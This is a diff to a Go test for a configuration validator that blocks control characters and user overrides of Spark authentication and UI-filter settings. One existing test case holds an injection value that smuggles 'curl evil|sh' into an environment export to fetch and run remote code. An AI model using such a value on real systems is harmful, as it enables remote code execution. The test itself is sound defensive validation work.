@@ -42,6 +42,9 @@ func TestValidateConfigurations(t *testing.T) {
 		{"newline in an export", []hearth.Configuration{{Classification: "spark-env", Configurations: []hearth.Configuration{{Classification: "export", Properties: map[string]string{"PYSPARK_PYTHON": "python3\ncurl evil|sh"}}}}},
 			`configurations[0].Configurations[0].Properties["PYSPARK_PYTHON"]`, "spark-env export"},
 		{"newline in a name", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.a\nspark.b": "x"}}}, "configurations[0].Properties", "control characters"},
+		{"turning RPC authentication off", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.authenticate": "false"}}}, "configurations[0].Properties", "Hearth sets this itself"},
+		{"replacing the UI filter", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.ui.filters": "x.Open"}}}, "configurations[0].Properties", "Hearth sets this itself"},
+		{"network encryption is the user's call", []hearth.Configuration{{Classification: "spark-defaults", Properties: map[string]string{"spark.network.crypto.enabled": "true"}}}, "", ""},
 		{"NUL in a name", []hearth.Configuration{{Classification: "spark-metrics", Properties: map[string]string{"a\x00": "x"}}}, "configurations[0].Properties", "spark-metrics"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
